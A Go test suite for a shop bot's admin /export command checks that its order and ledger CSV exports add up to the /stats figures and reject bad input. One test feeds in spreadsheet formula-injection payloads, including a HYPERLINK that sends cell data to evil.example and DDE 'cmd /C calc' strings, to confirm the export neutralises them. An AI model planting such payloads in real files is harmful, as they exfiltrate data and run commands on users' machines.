package books_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"shopbot/state/redisstore/records"
	"strings"
	"testing"
	"time"

	"github.com/shopspring/decimal"

	"shopbot/bot/botapitest/types"
	"shopbot/bot/storefront"
	"shopbot/locales"
	"shopbot/state"
)

// exportDoc sends /export arg as the admin and returns the document the
// bot sent back, its CSV rows (header first) and its caption.
func (h *harness) exportDoc(b *storefront.Shop, arg string) (types.Message, [][]string) {
	h.T.Helper()
	before := len(h.Fake.CallsFor("sendDocument"))
	h.Fake.SendCommand(admin, "export", arg)
	h.Wait("sendDocument", before+1)
	var doc types.Message
	for _, m := range h.BotMessages(admin) {
		if m.Document != nil {
			doc = m
		}
	}
	if !strings.HasSuffix(doc.Document.FileName, ".csv") {
		h.T.Fatalf("/export %s sent %q", arg, doc.Document.FileName)
	}
	rows, err := csv.NewReader(bytes.NewReader(doc.FileData)).ReadAll()
	if err != nil {
		h.T.Fatalf("/export %s: not CSV: %v\n%s", arg, err, doc.FileData)
	}
	return doc, rows
}

// column returns the index of name in the header.
func column(t *testing.T, header []string, name string) int {
	t.Helper()
	for i, c := range header {
		if c == name {
			return i
		}
	}
	t.Fatalf("no column %q in %v", name, header)
	return -1
}

// csvTotals adds up an orders export the way /stats counts: orders,
// delivered, refunded, revenue, cost and margin.
type csvTotals struct {
	orders, delivered, refunded int64
	revenue, cost, margin       decimal.Decimal
}

func totalsOf(t *testing.T, rows [][]string) csvTotals {
	t.Helper()
	h := rows[0]
	rev, cost, margin, counted := column(t, h, "revenue_usd"), column(t, h, "cost_usd"), column(t, h, "margin_usd"), column(t, h, "counted_as")
	var s csvTotals
	for _, r := range rows[1:] {
		s.orders++
		switch r[counted] {
		case "delivered":
			s.delivered++
		case "refunded":
			s.refunded++
		}
		for _, c := range []struct {
			col int
			sum *decimal.Decimal
		}{{rev, &s.revenue}, {cost, &s.cost}, {margin, &s.margin}} {
			if !strings.Contains(r[c.col], ".") || len(r[c.col])-strings.Index(r[c.col], ".") != 5 {
				t.Fatalf("money %q is not four fixed decimals", r[c.col])
			}
			*c.sum = c.sum.Add(usd(r[c.col]))
		}
	}
	return s
}

// statsSection is the part of /stats that starts with heading.
func statsSection(t *testing.T, stats, heading string) string {
	t.Helper()
	for _, sec := range strings.Split(stats, "\n\n") {
		if strings.HasPrefix(sec, heading) {
			return sec
		}
	}
	t.Fatalf("/stats has no section %q:\n%s", heading, stats)
	return ""
}

// TestExportOrdersTotalsEqualStats: for each /stats period (today, 7 and
// 30 days) the CSV of the same window adds up to the figures /stats shows
// (orders, delivered, refunded, revenue, cost, margin), a line filter adds
// up to that line's /stats row, and every row is well formed: UTC ISO 8601
// times, money with four fixed decimals, a header.
func TestExportOrdersTotalsEqualStats(t *testing.T) {
	h := newHarness(t)
	now := statsOrders(t, h)
	b := h.reportsBot(nil, func(o *storefront.Options) { o.Now = func() time.Time { return now } })
	h.Run(b)
	stats := strings.ReplaceAll(h.Command(b, admin, "stats", "").RawText, "\u00a0", " ")
	money := func(d decimal.Decimal) string { return locales.Money(locales.En, d) }
	for _, c := range []struct{ window, heading string }{
		{"today", "<b>Today</b>"}, {"7d", "<b>Last 7 days</b>"}, {"30d", "<b>Last 30 days</b>"},
	} {
		doc, rows := h.exportDoc(b, "orders "+c.window)
		if got := strings.Join(rows[0], ","); !strings.HasPrefix(got, "order_id,created_at,user_id,line,item,status") {
			t.Fatalf("header %q", got)
		}
		s := totalsOf(t, rows)
		sec := statsSection(t, stats, c.heading)
		for _, want := range []string{
			fmt.Sprintf("%d orders: %d delivered, %d in progress, %d refunded", s.orders, s.delivered, s.orders-s.delivered-s.refunded, s.refunded),
			"Revenue: <b>" + money(s.revenue) + "</b>",
			"Upstream cost: " + money(s.cost) + " · margin <b>" + money(s.margin) + "</b>",
		} {
			if !strings.Contains(sec, want) {
				t.Errorf("%s: the CSV adds up to %q, /stats says\n%s", c.window, want, sec)
			}
		}
		caption := strings.ReplaceAll(doc.RawText, "\u00a0", " ")
		if want := "Revenue " + money(s.revenue) + " · cost " + money(s.cost) + " · margin " + money(s.margin); !strings.Contains(caption, want) {
			t.Errorf("%s: caption %q lacks %q", c.window, caption, want)
		}
		at := column(t, rows[0], "created_at")
		for _, r := range rows[1:] {
			ts, err := time.Parse(time.RFC3339, r[at])
			if err != nil || !strings.HasSuffix(r[at], "Z") || ts.After(now) {
				t.Fatalf("created_at %q is not a UTC ISO 8601 time in the window", r[at])
			}
		}
	}
	// One line over 30 days: that line's row of /stats.
	_, rows := h.exportDoc(b, "orders 30d keys")
	s := totalsOf(t, rows)
	want := fmt.Sprintf("• 🔑 Game keys: %d orders · %s · cost %s · margin %s · refunds %d/%d",
		s.orders, money(s.revenue), money(s.cost), money(s.margin), s.refunded, s.delivered+s.refunded)
	if !strings.Contains(statsSection(t, stats, "<b>Last 30 days</b>"), want) {
		t.Errorf("the keys CSV adds up to %q; /stats:\n%s", want, stats)
	}
	// A line and a status: only those.
	_, rows = h.exportDoc(b, "orders 2026-10-01 2026-11-23 giftcards delivered")
	line, st := column(t, rows[0], "line"), column(t, rows[0], "status")
	if len(rows) != 4 { // H, E, A
		t.Fatalf("giftcards delivered Oct 1 – Nov 23: %d rows\n%v", len(rows)-1, rows)
	}
	for _, r := range rows[1:] {
		if r[line] != "giftcards" || r[st] != state.OrderDelivered {
			t.Fatalf("row %v escaped the filter", r)
		}
	}
	h.NoViolations()
}

// TestExportLedgerAndBadInput: the ledger CSV holds the window's wallet
// movements of every buyer with signed fixed-decimal amounts and totals
// them; a bad /export answers what is wrong and the usage, and sends no
// file; a buyer's /export is an unknown command.
func TestExportLedgerAndBadInput(t *testing.T) {
	h := newHarness(t)
	now := time.Date(2026, 11, 23, 15, 0, 0, 0, time.UTC)
	clock := now.Add(-48 * time.Hour)
	w := records.NewWallets(h.Rdb.Client, h.Rdb.Prefix)
	w.Now = func() time.Time { return clock }
	ctx := context.Background()
	move := func(user int64, amount string, at time.Time, ref string) {
		clock = at
		var err error
		if strings.HasPrefix(amount, "-") {
			_, err = w.Debit(ctx, user, usd(amount).Neg(), ref, "order")
		} else {
			_, _, err = w.Credit(ctx, user, usd(amount), ref, "admin credit", "admin:9000")
		}
		if err != nil {
			t.Fatal(err)
		}
	}
	move(101, "20.00", now.Add(-48*time.Hour), "credit:old") // before the window
	move(101, "15.50", now.Add(-3*time.Hour), "credit:a")
	move(101, "-12.25", now.Add(-2*time.Hour), "pay:q1")
	move(202, "7.00", now.Add(-time.Hour), "credit:b")
	b := h.reportsBot(nil, func(o *storefront.Options) { o.Now = func() time.Time { return now } })
	h.Run(b)

	doc, rows := h.exportDoc(b, "ledger today")
	if got := strings.Join(rows[0], ","); got != "at,user_id,ref,amount_usd,balance_usd,note,actor" {
		t.Fatalf("header %q", got)
	}
	var refs []string
	for _, r := range rows[1:] {
		refs = append(refs, r[1]+" "+r[2]+" "+r[3]+" "+r[4])
	}
	want := []string{"101 credit:a 15.5000 35.5000", "101 pay:q1 -12.2500 23.2500", "202 credit:b 7.0000 7.0000"}
	if strings.Join(refs, "|") != strings.Join(want, "|") {
		t.Fatalf("ledger rows %q, want %q", refs, want)
	}
	if rows[1][0] != "2026-11-23T12:00:00Z" {
		t.Fatalf("time %q", rows[1][0])
	}
	caption := strings.ReplaceAll(doc.RawText, "\u00a0", " ")
	if !strings.Contains(caption, "3 movements") || !strings.Contains(caption, "Credits $22.50 · debits $12.25 · net +$10.25") {
		t.Fatalf("caption %q", caption)
	}

	docs := len(h.Fake.CallsFor("sendDocument"))
	for arg, problem := range map[string]string{
		"":                             "",
		"invoices":                     "",
		"orders yesterday":             `I don't understand “yesterday”.`,
		"ledger giftcards":             `I don't understand “giftcards”.`,
		"orders 2026-11-20 2026-11-10": "The last day is before the first one.",
		"orders 2024-01-01":            "A window is at most 366 days.",
		"orders 2026-02-30":            `I don't understand “2026-02-30”.`,
	} {
		m := h.Command(b, admin, "export", arg)
		if !strings.Contains(m.RawText, problem) || !strings.Contains(m.RawText, "/export orders [window] [line] [status]") {
			t.Errorf("/export %s answered %q", arg, m.RawText)
		}
	}
	if m := h.Command(b, chat, "export", "orders"); m.RawText != locales.T(locales.En, "err.unknown_command") {
		t.Errorf("a buyer's /export got %q", m.RawText)
	}
	if n := len(h.Fake.CallsFor("sendDocument")); n != docs {
		t.Fatalf("bad input sent %d files", n-docs)
	}
	h.NoViolations()
}

// TestExportNeutralisesFormulas: item names (from the upstream) and ledger
// notes, refs and actors that a spreadsheet would read as a formula
// (leading =, +, -, @, tab, CR) reach both exports with a leading single
// quote, while a negative amount in a number column stays a number and
// harmless text stays as it is.
func TestExportNeutralisesFormulas(t *testing.T) {
	h := newHarness(t)
	now := time.Date(2026, 11, 23, 15, 0, 0, 0, time.UTC)
	attacks := []string{
		`=HYPERLINK("http://evil.example/?d="&A2,"Refund")`,
		`+cmd|' /C calc'!A0`,
		`@SUM(1+1)*cmd|' /C calc'!A0`,
		`-1+1+cmd|' /C calc'!A0`,
		"\t=1+1",
		"\r=1+1",
		"Steam $20 (US)", // harmless: unchanged
	}
	want := func(s string) string {
		if s[0] == 'S' {
			return s
		}
		return "'" + s
	}
	orders := records.NewOrders(h.Rdb.Client, h.Rdb.Prefix)
	orders.Now = func() time.Time { return now.Add(-time.Hour) }
	w := records.NewWallets(h.Rdb.Client, h.Rdb.Prefix)
	w.Now = func() time.Time { return now.Add(-time.Hour) }
	ctx := context.Background()
	for i, name := range attacks {
		item, _ := json.Marshal(state.Quote{Line: "giftcards", ItemName: name})
		if _, _, err := orders.CreatePaid(ctx, &state.Order{UserID: 100 + int64(i), ChatID: 100 + int64(i), Line: "giftcards",
			Item: item, PayMethod: state.PayWallet, ShopUSD: usd("5.00"), ChargeID: fmt.Sprint("charge-", i), Lang: "en"}); err != nil {
			t.Fatal(err)
		}
		if _, _, err := w.Credit(ctx, 100+int64(i), usd("3.00"), name, name, name); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := w.Debit(ctx, 100, usd("1.50"), "pay:q1", "order"); err != nil {
		t.Fatal(err)
	}
	b := h.reportsBot(nil, func(o *storefront.Options) { o.Now = func() time.Time { return now } })
	h.Run(b)

	_, rows := h.exportDoc(b, "orders today")
	item := column(t, rows[0], "item")
	var got []string
	for _, r := range rows[1:] {
		got = append(got, r[item])
	}
	var wantAll []string
	for _, a := range attacks {
		wantAll = append(wantAll, want(a))
	}
	if strings.Join(got, "|") != strings.Join(wantAll, "|") {
		t.Errorf("items %q, want %q", got, wantAll)
	}

	_, rows = h.exportDoc(b, "ledger today")
	ref, amount, note, actor := column(t, rows[0], "ref"), column(t, rows[0], "amount_usd"), column(t, rows[0], "note"), column(t, rows[0], "actor")
	seen := map[string]bool{}
	for _, r := range rows[1:] {
		if r[ref] == "pay:q1" {
			if r[amount] != "-1.5000" {
				t.Errorf("a debit's amount %q, want the number -1.5000", r[amount])
			}
			continue
		}
		if r[ref] != r[note] || r[ref] != r[actor] || strings.HasPrefix(r[amount], "'") {
			t.Errorf("ledger row %q", r)
		}
		seen[r[note]] = true
	}
	for _, a := range attacks {
		if !seen[want(a)] {
			t.Errorf("ledger lacks the note %q (has %v)", want(a), seen)
		}
	}
	h.NoViolations()
}
